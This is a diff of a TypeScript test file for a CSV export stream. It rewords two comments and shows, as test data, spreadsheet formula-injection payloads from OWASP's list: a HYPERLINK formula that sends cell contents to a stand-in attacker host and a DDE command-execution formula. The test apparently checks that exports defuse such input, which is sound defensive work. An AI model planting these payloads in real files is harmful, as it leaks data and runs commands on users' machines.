@@ -1,4 +1,4 @@
-/** What a spreadsheet makes of our files: text is text, whatever a customer typed, and money is numbers. */
+/** How spreadsheets read our files: text stays text whatever a customer typed, and amounts are numbers. */
 import { expect, test } from 'vitest';
 import { csvStream } from './csv.ts';
 
@@ -10,7 +10,7 @@ const textOf = async (rows: (string | number | null)[][]): Promise<string> => {
   return Buffer.concat(pieces).toString('utf8');
 };
 
-/** What spreadsheets take for a formula: OWASP's list, and the full-width signs that some of them take too. */
+/** Text that spreadsheets take for a formula: OWASP's list, and the full-width signs that some of them accept. */
 const formulas = [
   '=HYPERLINK("https://evil.example?x="&A1,"Click")',
   "=cmd|' /C calc'!A0",
